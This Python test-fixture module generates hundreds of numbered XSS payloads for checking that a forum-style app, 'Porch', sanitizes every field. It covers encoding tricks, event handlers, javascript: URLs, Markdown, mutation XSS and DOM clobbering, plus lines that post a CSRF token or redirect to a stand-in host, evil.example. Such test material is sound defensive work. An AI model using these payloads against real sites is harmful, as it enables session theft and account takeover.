"""XSS injection payloads, grouped by technique, for posting into every field Porch shows.

Each payload is written with `$HIT`, the JavaScript that proves execution. `payloads()` numbers
them and puts `__xss_hit(N)` there (or `alert(N)`, `confirm(N)`... in the dialog group), so a
browser test hooking `__xss_hit` and the dialogs knows which one ran. Where the code runs in a
frame of its own (srcdoc, data: documents) the payload calls `top.__xss_hit(N)` instead.

Short payloads (at most 80 characters once numbered) also go into name fields: see `short()`.
"""

from __future__ import annotations

import base64
import html
from dataclasses import dataclass
from urllib.parse import quote

HIT = "$HIT"


def _entities_decimal(text: str, pad: int = 0, semicolon: bool = True) -> str:
    end = ";" if semicolon else ""
    return "".join(f"&#{ord(c):0{pad}d}{end}" for c in text)


def _entities_hex(text: str, upper: bool = False, semicolon: bool = True) -> str:
    end = ";" if semicolon else ""
    return "".join((f"&#X{ord(c):X}" if upper else f"&#x{ord(c):x}") + end for c in text)


# ---- Script tags in every casing and encoding -------------------------------------------------
# The plain element, odd casing and spacing, split and nested tags, entity/percent/unicode-
# escaped and fullwidth look-alikes (these must stay text), UTF-7, and raw-text containers.
SCRIPT_TAGS = [
    "<script>$HIT</script>",
    "<SCRIPT>$HIT</SCRIPT>",
    "<ScRiPt>$HIT</sCrIpT>",
    '<script type="text/javascript">$HIT</script>',
    '<script type="module">$HIT</script>',
    "<script src=data:,$HIT></script>",
    '<script/src="data:text/javascript,$HIT"></script>',
    "<script\n>$HIT</script\n>",
    "<script\t>$HIT</script>",
    "<script/x>$HIT</script>",
    "<<script>$HIT//<</script>",
    "<scr<script>ipt>$HIT</scr</script>ipt>",
    "&lt;script&gt;$HIT&lt;/script&gt;",
    "&#60;script&#62;$HIT&#60;/script&#62;",
    "\\u003cscript\\u003e$HIT\\u003c/script\\u003e",
    "%3Cscript%3E$HIT%3C/script%3E",
    "<script>/*<![CDATA[*/$HIT/*]]>*/</script>",
    "<svg><script>$HIT</script></svg>",
    '<svg><script href="data:,$HIT"/></svg>',
    "+ADw-script+AD4-$HIT+ADw-/script+AD4-",
    "\uff1cscript\uff1e$HIT\uff1c/script\uff1e",
    "<script>$HIT<!--",
    "<script/>$HIT",
    "<xmp><script>$HIT</script></xmp>",
    "<textarea><script>$HIT</script></textarea>",
    "<title><script>$HIT</script></title>",
    "<plaintext><script>$HIT</script>",
    "<noembed><script>$HIT</script></noembed>",
    "<noframes><script>$HIT</script></noframes>",
    "<script>eval('$HIT')</script>",
    "<script>setTimeout('$HIT')</script>",
    "<script>\u2028$HIT</script>",
]

# ---- Event handlers on every element that has them --------------------------------------------
# Load/error events (img, video, audio, svg, body, iframe, object, input type=image), focus with
# autofocus, toggle, animation and SVG animation begin, pointer events, and handler code that is
# itself entity-encoded (the attribute value is decoded before it runs).
EVENT_HANDLERS = [
    "<img src=x onerror=$HIT>",
    "<IMG SRC=x OnErRoR=$HIT>",
    '<img src=x onerror="$HIT">',
    "<img src=x onerror='$HIT'>",
    "<img/src=x/onerror=$HIT>",
    "<img src=x:x onerror=$HIT>",
    "<img src onerror=$HIT>",
    "<image src=x onerror=$HIT>",
    "<img src=x onerror=$HIT//",
    '<img src="x" onerror="&#95;&#95;xss_hit($N)">',
    "<body onload=$HIT>",
    "<body onpageshow=$HIT>",
    "<svg onload=$HIT>",
    "<svg/onload=$HIT>",
    "<svg><g onload=$HIT></g></svg>",
    "<input autofocus onfocus=$HIT>",
    "<select autofocus onfocus=$HIT></select>",
    "<textarea autofocus onfocus=$HIT></textarea>",
    "<button autofocus onfocus=$HIT>x</button>",
    "<div tabindex=1 autofocus onfocus=$HIT>x</div>",
    "<div contenteditable autofocus onfocus=$HIT>x</div>",
    "<input onblur=$HIT autofocus><input autofocus>",
    "<details open ontoggle=$HIT>",
    "<details ontoggle=$HIT open><summary>x</summary></details>",
    "<style>@keyframes x{}</style><div style=animation-name:x onanimationstart=$HIT></div>",
    "<p style=animation:x onanimationend=$HIT>",
    "<svg><animate onbegin=$HIT attributeName=x dur=1s>",
    "<svg><set onbegin=$HIT attributeName=x to=1>",
    "<svg><animatetransform onbegin=$HIT attributeName=transform>",
    "<svg><discard onbegin=$HIT>",
    '<div onmouseover=$HIT style="position:fixed;inset:0">x</div>',
    "<a onmouseover=$HIT>hover</a>",
    "<p onclick=$HIT>click</p>",
    "<b onpointerenter=$HIT>x</b>",
    "<video src=x onerror=$HIT></video>",
    "<video><source onerror=$HIT></video>",
    "<audio src=x onerror=$HIT></audio>",
    "<object data=x onerror=$HIT></object>",
    "<iframe onload=$HIT></iframe>",
    "<marquee onstart=$HIT>x</marquee>",
    "<input type=image src=x onerror=$HIT>",
    "<link rel=stylesheet href=x onerror=$HIT>",
    "<style onload=$HIT></style>",
    "<frameset onload=$HIT>",
    "<strong onmouseenter=$HIT>x</strong>",
    "<blockquote onfocusin=$HIT tabindex=0 autofocus>x</blockquote>",
    "<a href=https://example.org onclick=$HIT>x</a>",
    "<code oncopy=$HIT>x</code>",
    "<img src=x onerror=\\u005f_xss_hit($N)>",
    "<svg><a><animate attributeName=href values=javascript:$HIT /><text y=20>x</text></a></svg>",
]

# ---- javascript:, data: and vbscript: URLs in links -------------------------------------------
# Case, leading/embedded whitespace, tab/newline/NUL/control characters, numeric and named
# character references, percent-encoding, and the same on <area> and SVG xlink:href.
DANGEROUS_URLS = [
    '<a href="javascript:$HIT">x</a>',
    '<a href="JaVaScRiPt:$HIT">x</a>',
    '<a href=" javascript:$HIT">x</a>',
    '<a href="\tjavascript:$HIT">x</a>',
    '<a href="java\tscript:$HIT">x</a>',
    '<a href="java\nscript:$HIT">x</a>',
    '<a href="java\rscript:$HIT">x</a>',
    '<a href="java&#x09;script:$HIT">x</a>',
    '<a href="java&#10;script:$HIT">x</a>',
    '<a href="java&#13;script:$HIT">x</a>',
    '<a href="javas&Tab;cript:$HIT">x</a>',
    '<a href="javascript&NewLine;:$HIT">x</a>',
    '<a href="javascript&colon;$HIT">x</a>',
    '<a href="javascript&#58;$HIT">x</a>',
    '<a href="&#14;javascript:$HIT">x</a>',
    '<a href="&#1;javascript:$HIT">x</a>',
    '<a href="\x01javascript:$HIT">x</a>',
    '<a href="java\x00script:$HIT">x</a>',
    '<a href="jav&#97;script:$HIT">x</a>',
    '<a href=" &#x20;javascript:$HIT">x</a>',
    '<a href="javascript://%0a$HIT">x</a>',
    '<a href="javascript:/*--></title></style></textarea></script><svg/onload=$HIT>">x</a>',
    '<a href="javascript\u2028:$HIT">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:$HIT">x</a>',
    "<a href=javascript:$HIT>unquoted</a>",
    "<a href='javascript:$HIT'>single</a>",
    "<a href=`javascript:$HIT`>backtick</a>",
    '<a href="data:text/html,<script>top.$HIT</script>">x</a>',
    '<a href="DATA:text/html,<script>top.$HIT</script>">x</a>',
    '<a href="data:text/html;base64,{b64}">x</a>',
    '<a href="data:image/svg+xml,<svg onload=top.$HIT>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="livescript:$HIT">x</a>',
    "<map name=m><area shape=rect coords=0,0,99,99 href=javascript:$HIT></map>",
    '<svg><a xlink:href="javascript:$HIT"><text y=20>x</text></a></svg>',
    '<svg><a href="javascript:$HIT"><text y=20>x</text></a></svg>',
    '<a xlink:href="javascript:$HIT">x</a>',
    '<a href="javascript:alert(document.domain)" title="$HIT">x</a>',
    '<a href="mailto:x@example.org" ping="javascript:$HIT">x</a>',
]

# ---- HTML-entity encoded schemes in <a href> --------------------------------------------------
# "javascript:" written wholly as decimal, hex, zero-padded and semicolon-less references.
_JS = "javascript:"
ENTITY_SCHEMES = [
    f'<a href="{_entities_decimal(_JS)}$HIT">x</a>',
    f'<a href="{_entities_decimal(_JS, semicolon=False)}$HIT">x</a>',
    f'<a href="{_entities_decimal(_JS, pad=7)}$HIT">x</a>',
    f'<a href="{_entities_decimal(_JS, pad=7, semicolon=False)}$HIT">x</a>',
    f'<a href="{_entities_hex(_JS)}$HIT">x</a>',
    f'<a href="{_entities_hex(_JS, upper=True)}$HIT">x</a>',
    f'<a href="{_entities_hex(_JS, semicolon=False)}$HIT">x</a>',
    '<a href="&#106;avascript:$HIT">x</a>',
    '<a href="&#x6A;avascript:$HIT">x</a>',
    '<a href="&#0000106;avascript:$HIT">x</a>',
    f'<a href="{_entities_decimal("data:")}text/html,<script>top.$HIT</script>">x</a>',
    f'<a href="{_entities_hex("vbscript:")}msgbox(1)">x</a>',
    f"[x]({_entities_decimal(_JS)}$HIT)",
    f"[x]({_entities_hex(_JS)}$HIT)",
]

# ---- Markdown links, images, autolinks and reference links ------------------------------------
# markdown-it normalises link destinations; these check that no normalisation reopens a scheme,
# and that titles and link text cannot break out of the attribute.
MARKDOWN = [
    "[x](javascript:$HIT)",
    "[x](JAVASCRIPT:$HIT)",
    "[x]( javascript:$HIT )",
    "[x](<javascript:$HIT>)",
    "[x](java&#115;cript:$HIT)",
    "[x](javascript&#58;$HIT)",
    '[x](javascript:$HIT "title")',
    "[x](data:text/html,<script>top.$HIT</script>)",
    "[x](data:text/html;base64,{b64})",
    "[x](vbscript:msgbox(1))",
    "[x](javascript://example.org/%0a$HIT)",
    "[x](\\javascript:$HIT)",
    "[x](javas%0Acript:$HIT)",
    "![x](javascript:$HIT)",
    "![x](data:image/svg+xml,<svg onload=top.$HIT>)",
    '![x"onerror="$HIT](x)',
    "<javascript:$HIT>",
    "<JAVASCRIPT:$HIT>",
    "<data:text/html,<script>top.$HIT</script>>",
    "[x][r]\n\n[r]: javascript:$HIT",
    '[x]\n\n[x]: javascript:$HIT "t"',
    "[x][r]\n\n[r]: <javascript:$HIT>",
    "![x][i]\n\n[i]: javascript:$HIT",
    '[x"onmouseover="$HIT](https://example.org)',
    '[x](https://example.org "x\\"onmouseover=\\"$HIT")',
    '[x](https://example.org"onmouseover="$HIT)',
    "[<img src=x onerror=$HIT>](https://example.org)",
    '[x](https://example.org/"><svg/onload=$HIT>)',
    '<https://example.org/"onmouseover="$HIT>',
    'https://example.org/"><svg/onload=$HIT>',
    'www.example.org/"onmouseover=$HIT',
    "`<img src=x onerror=$HIT>`",
    "```\n<script>$HIT</script>\n```",
    "    <img src=x onerror=$HIT>",
    "> <img src=x onerror=$HIT>",
    "*<img src=x onerror=$HIT>*",
    "~~<svg onload=$HIT>~~",
    "- [x](javascript:$HIT)\n- <svg onload=$HIT>",
]

# ---- SVG and MathML namespace confusion (mutation XSS) ----------------------------------------
# Markup that parses differently once serialised and parsed again (style/title/desc in foreign
# content, mglyph/malignmark, form nesting), and raw-text containers hiding a tag in an attribute.
NAMESPACE_CONFUSION = [
    "<svg><style><img src=x onerror=$HIT></style></svg>",
    "<math><style><img src=x onerror=$HIT></style></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=$HIT>",
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
        '&lt;img&Tab;src=1&Tab;onerror=$HIT&gt;">'
    ),
    '<svg></p><style><a id="</style><img src=1 onerror=$HIT>">',
    "<svg><p><style><img src=x onerror=$HIT></p>",
    "<svg><foreignObject><img src=x onerror=$HIT></foreignObject></svg>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=$HIT></annotation-xml></math>',
    "<svg><title><img src=x onerror=$HIT></title></svg>",
    "<svg><desc><img src=x onerror=$HIT></desc></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=$HIT>",
    "<select><template><img src=x onerror=$HIT></template></select>",
    '<math href="javascript:$HIT">click</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:$HIT>x</maction></math>",
    "<table><svg><style><img src=x onerror=$HIT></style></svg></table>",
    "<p><svg><style>*{}</style><img src=x onerror=$HIT></svg></p>",
    '<xmp><p title="</xmp><img src=x onerror=$HIT>">',
    '<iframe><p title="</iframe><img src=x onerror=$HIT>">',
    '<noembed><p title="</noembed><img src=x onerror=$HIT>">',
    '<noscript><p title="</noscript><img src=x onerror=$HIT>">',
    '<style><p title="</style><img src=x onerror=$HIT>">',
    '<textarea><p title="</textarea><img src=x onerror=$HIT>">',
    '<title><p title="</title><img src=x onerror=$HIT>">',
    "<math><mi><mglyph><svg><mtext><textarea><path id=</textarea><img onerror=$HIT src=1>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='top.$HIT'/></svg>#x\"/></svg>",
]

# ---- CDATA sections ---------------------------------------------------------------------------
# Outside foreign content a CDATA section is a bogus comment ending at the first ">".
CDATA = [
    "<![CDATA[<script>$HIT</script>]]>",
    "<![CDATA[><img src=x onerror=$HIT>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=$HIT>]]></svg>",
    "<svg><![CDATA[><img src=x onerror=$HIT>]]></svg>",
    "<math><![CDATA[]]><img src=x onerror=$HIT></math>",
    "]]><script>$HIT</script>",
]

# ---- Comment tricks ---------------------------------------------------------------------------
# Abruptly closed comments (<!-->, <!--->), --!>, bogus comments (<!x, </x, <?x), conditional
# comments, and Porch's own fragment-cache slot markers.
COMMENTS = [
    "<!--><script>$HIT</script>-->",
    "<!---><img src=x onerror=$HIT>-->",
    "<!-- --!><img src=x onerror=$HIT>-->",
    '<!--<img src="--><img src=x onerror=$HIT//">',
    '<! foo="><script>$HIT</script>">',
    '</ foo="><script>$HIT</script>">',
    '<? foo="><script>$HIT</script>">',
    "<!--[if gte IE 4]><script>$HIT</script><![endif]-->",
    "<!DOCTYPE html><img src=x onerror=$HIT>",
    "<!--porch:like--><img src=x onerror=$HIT>",
    "x<!--porch:own-->y<!--porch:like-->z",
    '<comment><img src="</comment><img src=x onerror=$HIT>">',
    "<!--",
    "--><svg onload=$HIT>",
]

# ---- <style>, CSS expressions and url(javascript:) --------------------------------------------
STYLE = [
    "<style>*{background:url(javascript:$HIT)}</style>",
    '<div style="background:url(javascript:$HIT)">x</div>',
    '<div style="width:expression($HIT)">x</div>',
    "<style>@import 'javascript:$HIT';</style>",
    '<p style="x:expr/**/ession($HIT)">x</p>',
    "<style>body{-moz-binding:url(data:,$HIT)}</style>",
    '<link rel=stylesheet href="javascript:$HIT">',
    '<div style="background-image:url(&#1;javascript:$HIT)">x</div>',
    "<span style=behavior:url(x.htc)>x</span>",
    "<style></style><img src=x onerror=$HIT>",
    "<style>p{color:red}</style><p>styled?</p>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">cover</p>',
]

# ---- <template>, <iframe srcdoc>, <base>, <meta refresh>, <form>, <object>, <embed> ----------
ELEMENTS = [
    "<template><img src=x onerror=$HIT></template>",
    "<template><script>$HIT</script></template>",
    '<iframe srcdoc="<script>top.$HIT</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=top.$HIT&gt;"></iframe>',
    '<iframe src="javascript:top.$HIT"></iframe>',
    '<iframe src="data:text/html,<script>top.$HIT</script>"></iframe>',
    "<iframe src=https://example.org></iframe>",
    "<frame src=javascript:top.$HIT>",
    '<base href="javascript:$HIT//">',
    '<base href="https://evil.example/">',
    '<base target="_blank" href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:$HIT">',
    '<meta http-equiv=refresh content="0; url=data:text/html,<script>top.$HIT</script>">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta charset="UTF-7">',
    '<form action="javascript:$HIT"><input type=submit></form>',
    '<form><button formaction="javascript:$HIT">x</button></form>',
    "<form id=f></form><button form=f formaction=javascript:$HIT>x</button>",
    "<input type=submit formaction=javascript:$HIT>",
    "<input type=image formaction=javascript:$HIT src=x>",
    "<isindex action=javascript:$HIT type=submit>",
    '<form action="https://evil.example/steal"><input name=csrf_token></form>',
    '<object data="javascript:top.$HIT"></object>',
    '<object data="data:text/html,<script>top.$HIT</script>"></object>',
    '<object type="text/html" data="data:text/html;base64,{b64}"></object>',
    '<embed src="javascript:top.$HIT">',
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='top.$HIT'/>\">",
    "<applet code=x>x</applet>",
    "<portal src=javascript:$HIT></portal>",
    '<img srcset="javascript:$HIT 1x">',
    '<img src=x srcset=",,,,,x onerror=$HIT">',
    "<picture><source srcset=x onerror=$HIT><img src=x></picture>",
    "<video poster=javascript:$HIT></video>",
    '<a href="https://example.org" target=_blank>blank</a>',
    '<a href="https://example.org" target=_blank rel=opener>opener</a>',
    '<a href="https://example.org" rel="opener noreferrer">rel</a>',
]

# ---- DOM clobbering ---------------------------------------------------------------------------
# ids and names that would shadow globals or the page's own hooks; all such attributes must go.
DOM_CLOBBERING = [
    "<a id=location href=javascript:$HIT>x</a>",
    "<form name=location></form>",
    "<img name=getElementById src=x>",
    "<form id=__xss><input name=length></form>",
    "<a id=__xss_hit>x</a>",
    "<a id=__porchCspViolation>x</a>",
    "<input name=csrf_token value=evil>",
    '<meta name="csrf-token" content="evil" data-url="https://evil.example/">',
    "<form name=body></form>",
    "<img name=cookie src=x>",
    "<form id=document></form>",
    "<a id=x name=x href=javascript:$HIT>x</a>",
    "<form id=test><input id=attributes></form>",
    "<a id=reply-form>x</a>",
    "<div id=porch-thread>x</div>",
    '<span data-top-replies data-sort="newest">x</span>',
    "<a id=c1 href=#>x</a>",
    '<p id="main" class="reply" data-reply-id="1">x</p>',
]

# ---- Attribute breakouts, unclosed tags and template syntax -----------------------------------
# For plain-text fields (names, titles, reasons, URLs): quotes of every kind, closing the
# element around the value, JavaScript-string and template-engine breakouts.
BREAKOUTS = [
    '"><script>$HIT</script>',
    "'><svg onload=$HIT>",
    '" onmouseover="$HIT',
    "' onfocus='$HIT' autofocus='",
    "` onmouseover=$HIT `",
    '"autofocus onfocus="$HIT',
    "</title><script>$HIT</script>",
    "</textarea><script>$HIT</script>",
    "</style><script>$HIT</script>",
    '"></a><img src=x onerror=$HIT>',
    "--><svg onload=$HIT>",
    "</script><script>$HIT</script>",
    '"};$HIT;//',
    "';$HIT;//",
    '\\";$HIT;//',
    "{{constructor.constructor('$HIT')()}}",
    "${$HIT}",
    "<%= $HIT %>",
    '"><iframe srcdoc="<script>top.$HIT</script>">',
    'x" style="animation-name:x" onanimationstart="$HIT',
    'https://example.org/"onmouseover="$HIT"',
    "https://example.org/'><svg/onload=$HIT>",
    "https://example.org/`onmouseover=$HIT",
    'https://example.org#"><img/src/onerror=$HIT>',
    'https://example.org/?q="><script>$HIT</script>',
]
UNCLOSED = [
    "<img src=x onerror=$HIT",
    "<svg onload=$HIT",
    '<a href="javascript:$HIT"',
    "<script>$HIT",
    '<img src="x" onerror="$HIT"',
    "<iframe src=javascript:top.$HIT",
    "<body onload=$HIT",
    "<input autofocus onfocus=$HIT",
    "<details open ontoggle=$HIT",
    "<a href=javascript:$HIT>unclosed",
    '<p title="<img src=x onerror=$HIT>',
    "<svg><script>$HIT",
    "<math><mtext><style><img src=x onerror=$HIT",
]

# ---- Dialogs: the same tricks calling alert/confirm/prompt/print instead of the sentinel ------
DIALOGS = [
    "<img src=x onerror=$DIALOG>",
    "<svg onload=$DIALOG>",
    "<script>$DIALOG</script>",
    '<a href="javascript:$DIALOG">x</a>',
    "[x](javascript:$DIALOG)",
    "<details open ontoggle=$DIALOG>",
    "<body onload=$DIALOG>",
    '"><script>$DIALOG</script>',
    "<input autofocus onfocus=$DIALOG>",
    '<iframe srcdoc="<script>top.$DIALOG</script>"></iframe>',
    "<svg><animate onbegin=$DIALOG attributeName=x dur=1s>",
    "<details open ontoggle=print()>",
]
_DIALOG_CALLS = ("alert({n})", "confirm({n})", "prompt({n})")

GROUPS: dict[str, list[str]] = {
    "script_tags": SCRIPT_TAGS,
    "event_handlers": EVENT_HANDLERS,
    "dangerous_urls": DANGEROUS_URLS,
    "entity_schemes": ENTITY_SCHEMES,
    "markdown": MARKDOWN,
    "namespace_confusion": NAMESPACE_CONFUSION,
    "cdata": CDATA,
    "comments": COMMENTS,
    "style": STYLE,
    "elements": ELEMENTS,
    "dom_clobbering": DOM_CLOBBERING,
    "breakouts": BREAKOUTS,
    "unclosed": UNCLOSED,
    "dialogs": DIALOGS,
}


@dataclass(frozen=True)
class Payload:
    number: int
    group: str
    text: str


def _fill(template: str, number: int) -> str:
    call = f"__xss_hit({number})"
    dialog = _DIALOG_CALLS[number % len(_DIALOG_CALLS)].format(n=number)
    document = f"<script>top.__xss_hit({number})</script>"
    b64 = base64.b64encode(document.encode()).decode()
    text = template.replace("{b64}", b64).replace("$DIALOG", dialog)
    return text.replace(HIT, call).replace("$N", str(number))


def payloads() -> list[Payload]:
    """Every payload, numbered from 1 in group order; the numbers are what the sentinel records."""
    numbered = []
    for group, templates in GROUPS.items():
        for template in templates:
            number = len(numbered) + 1
            numbered.append(Payload(number, group, _fill(template, number)))
    return numbered


def short(limit: int = 80) -> list[Payload]:
    """Payloads that fit a name field."""
    return [payload for payload in payloads() if len(payload.text) <= limit]


def fragments() -> list[str]:
    """Pieces for property tests to splice together: whole payloads and their tag-sized parts."""
    pieces = {payload.text for payload in payloads()}
    for payload in payloads():
        pieces.update(part + ">" for part in payload.text.split(">") if part)
    pieces.update({html.escape(p) for p in list(pieces)[:50]})
    pieces.update({quote(p) for p in list(pieces)[:20]})
    return sorted(pieces)
